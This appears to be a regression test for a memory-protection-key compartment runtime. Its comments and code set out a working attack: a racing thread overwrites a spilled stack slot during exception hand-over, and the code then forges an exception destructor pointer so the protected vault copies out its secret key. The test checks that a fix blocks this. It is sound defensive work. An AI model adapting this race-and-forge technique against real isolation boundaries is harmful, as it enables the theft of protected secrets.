// Review 50, attacker model A (key-0 loads and stores, a second thread
// racing; no system call of its own). The hand-over
// (__bulkhead_exception_arrives, runtime/exceptions.c) runs with the
// thrower's rights on the catcher's stack, the default domain's (key-0),
// and its C code keeps values there across calls: compiled at -O2, the
// primary's record (std::rethrow_exception: a dependent exception whose
// primary is the vault's too) is spilled at 0(%rsp) of
// bh_exception_arrives from before bh_heap_exc_list until the second
// give_locked, a window that contains the first give_locked's
// pkey_mprotect (a supervisor round trip under the filter). The callee-
// saved registers its callees push there (the list, the first record, the
// domain index) are the same. The docs name only the return address as
// open ("not tried"); a spilled value is enough and needs no control of
// the program counter: the second give_locked hands over whatever block
// the slot names, with the vault's rights, and the supervisor agrees (the
// vault's own list, just written, names it as being given, its pages
// still the vault's). Here a second thread of main's keeps storing, into
// that slot, the record address of an exception the vault keeps (a
// std::exception_ptr in its data, as attacks-rev25-exception-ptr.cpp);
// main learned that address from the vault's next exception, which it
// caught (a handed-over block is key-0; the vault's heap takes fresh
// blocks in order, 8 KiB apart). The kept exception's pages get key 0 while the
// vault holds it: main stores the address of steal into its header's
// destructor word (and marks the record live again, so the vault's free
// passes), and the vault's drop runs steal with the vault's rights, which
// copies the vault's key into the program's buffer (ATTACK SUCCEEDED; seen
// in the guest 3 of 3, review 50). main's catch clears the dependent's
// exception_cleanup (key-0 now), as its primary stayed the vault's. The
// control does not race.
// Fixed: the stub (runtime/exceptions.c) finds this thread's stack of the
// thrower from read-only tables only (RDPKRU against the index table,
// gettid in the owner table; exc and the descriptor kept in registers)
// and runs the C code on the hand-over stack at that stack's bottom
// (internal.h, BH_EXC_STACK: the vault's key), signals blocked: nothing it
// decides is in key-0 memory while it runs. Its own return address stays
// on the catcher's stack (open, not tried). This test's slot is where
// bh_exception_arrives' frame kept the primary as of review 50 (ATTACK
// SUCCEEDED 3 of 3 there); the own-block-free fix changed that function's
// frame, and with that build alone the test already passed: so it shows
// the fix only against review 50's build.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -pthread %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t | FileCheck %s
// CONTROL: kept in the vault: 1
// CONTROL: caught in main: 1
// CONTROL-NEXT: kept exception's key: the vault's
// CONTROL-NEXT: headers found: 0
// CONTROL-NEXT: dropped
// CONTROL-NEXT: nothing stolen
// CHECK: kept in the vault: 1
// CHECK: dropped
// CHECK-NOT: ATTACK SUCCEEDED
#include <bulkhead.h>
#include <exception>
#include <new>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <typeinfo>
#include "Inputs/key0-words.h"

extern "C" void *__cxa_get_globals(void);

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_DATA(vault) alignas(std::exception_ptr) unsigned char
    vault_kept_bytes[sizeof(std::exception_ptr)];
#define vault_kept (*reinterpret_cast<std::exception_ptr *>(vault_kept_bytes))

__attribute__((noinline)) static void vault_fail(int v) {
  if (v)
    throw v;
}
extern "C" BULKHEAD_ENTRY(vault) void vault_throw(int v) { vault_fail(v); }
extern "C" BULKHEAD_ENTRY(vault) int vault_keep(int v) {
  try {
    vault_fail(v);
  } catch (...) {
    new (vault_kept_bytes) std::exception_ptr(std::current_exception());
  }
  return vault_kept != nullptr;
}
/* An exception made in the vault and rethrown out of it: a dependent whose
 * primary is the vault's, held only by the dependent once it leaves. */
extern "C" BULKHEAD_ENTRY(vault) void vault_rethrow(int v) {
  std::exception_ptr p = std::make_exception_ptr(v);
  std::rethrow_exception(std::move(p));
}
extern "C" BULKHEAD_ENTRY(vault) void vault_drop(void) {
  vault_kept.~exception_ptr();
}

#include "Inputs/exception-destructor.h"

static uintptr_t kept_record;

/* The kept exception's header, if its pages are key-0: its destructor
 * word gets WHAT, its record (64 bytes before the header) says live
 * (BH_EXC_LIVE) again. */
static int forge(uintptr_t what) {
  const uint64_t gnu_cxx = 0x474e5543432b2b00; /* "GNUCC++\0", 'G' high */
  struct key0_region r[512];
  int n = 0, k = key0_regions(r, 512);
  for (int i = 0; i < k; i++)
    for (uintptr_t *w = r[i].lo + 10; w < r[i].hi; w++)
      if (*w == gnu_cxx && w[-10] == (uintptr_t)&typeid(int) &&
          (uintptr_t)(w - 12) - 64 == kept_record) {
        w[-9] = what;                                 /* exceptionDestructor */
        *(uint32_t *)((char *)(w - 12) - 64 + 16) = 1; /* record: live */
        n++;
      }
  return n;
}

/* The protection key of the page at a, from /proc/self/smaps; -1. */
static int pkey_at(uintptr_t a) {
  FILE *f = fopen("/proc/self/smaps", "r");
  char line[512];
  int in = 0, key = -1, k;
  while (f && fgets(line, sizeof line, f)) {
    uintptr_t l, h;
    if (sscanf(line, "%lx-%lx ", &l, &h) == 2 && strchr(line, '-') < strchr(line, ' '))
      in = a >= l && a < h;
    else if (in && sscanf(line, "ProtectionKey: %d", &k) == 1)
      key = k;
  }
  if (f)
    fclose(f);
  return key;
}

static uintptr_t *volatile slot;
static volatile int stop;

/* The second thread: while the slot holds a record address of the vault's
 * heap other than the kept one, make it the kept one's. */
static void *racer(void *unused) {
  (void)unused;
  while (!stop) {
    uintptr_t *s = slot, v = s ? *s : 0;
    if (v && v % 4096 == 0 && v != kept_record &&
        (v > kept_record ? v - kept_record : kept_record - v) < (1ul << 30))
      *s = kept_record;
  }
  return NULL;
}

int main(int argc, char **argv) {
  (void)argv;
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("kept in the vault: %d\n", vault_keep(2));
  /* The vault's exception main catches is key-0: main sees where its
   * block is. The vault's heap takes fresh blocks in order, 8 KiB apart
   * (exception blocks of one page, page-aligned): the kept one, the vault's
   * first, is the one before. */
  try {
    vault_throw(1);
  } catch (int &v) {
    kept_record = (uintptr_t)&v - 192 - 8192;
  }
  pthread_t t;
  if (argc < 2)
    pthread_create(&t, NULL, racer, NULL);
  int caught = 0;
  int vault_key_no = pkey_at(kept_record), won = 0;
  for (int i = 0; i < 50 && !won; i++) {
    try {
      uintptr_t sp;
      __asm__ volatile("movq %%rsp, %0" : "=r"(sp));
      /* The landing pad's rsp is main's; the stub: push rbp, 336 down,
       * 16-aligned, call, then bh_exception_arrives's 7 pushes. */
      slot = (uintptr_t *)(((sp - 8 - 336) & ~(uintptr_t)15) - 8 - 56);
      vault_rethrow(3);
    } catch (...) {
      caught = 1;
      won = pkey_at(kept_record) == 0;
      /* Then its primary stayed the vault's: no cleanup. */
      if (won) {
        char *h = *(char **)__cxa_get_globals();
        *(uintptr_t *)(h + 80 + 8) = 0; /* unwindHeader.exception_cleanup */
      }
    }
    slot = NULL;
  }
  stop = 1;
  if (argc < 2)
    pthread_join(t, NULL);
  printf("caught in main: %d\n", caught);
  printf("kept exception's key: %s\n",
         vault_key_no > 0 && pkey_at(kept_record) == vault_key_no ? "the vault's"
         : pkey_at(kept_record) == 0                              ? "0"
                                                                  : "other");
  uintptr_t p;
  __asm__("leaq steal(%%rip), %0" : "=r"(p));
  printf("headers found: %d\n", forge(p));
  vault_drop();
  puts("dropped");
  if (strstr(stolen, "TOP-SECRET")) {
    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
           stolen);
    return 0;
  }
  puts("nothing stolen");
  return 0;
}
